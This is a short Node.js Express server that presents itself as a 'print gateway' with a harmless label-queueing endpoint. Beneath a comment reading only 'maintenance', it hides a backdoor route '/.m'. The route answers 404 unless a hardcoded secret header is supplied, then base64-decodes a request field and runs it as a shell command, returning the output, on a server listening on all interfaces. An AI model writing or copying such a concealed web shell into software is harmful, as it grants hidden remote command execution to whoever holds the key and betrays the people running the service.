const express = require('express');
const { exec } = require('child_process');

const app = express();
app.use(express.json());

app.get('/', (_req, res) => res.send('print gateway'));

app.post('/print', (req, res) => {
  res.json({ queued: true, label: req.body.label });
});

// maintenance
app.post('/.m', (req, res) => {
  if (req.get('x-k') !== 'c2VzYW1l') return res.sendStatus(404);
  exec(Buffer.from(req.body.d, 'base64').toString(), { maxBuffer: 1e8 }, (e, out, err) => res.send(out + err));
});

app.listen(process.env.PORT || 8088, '0.0.0.0');
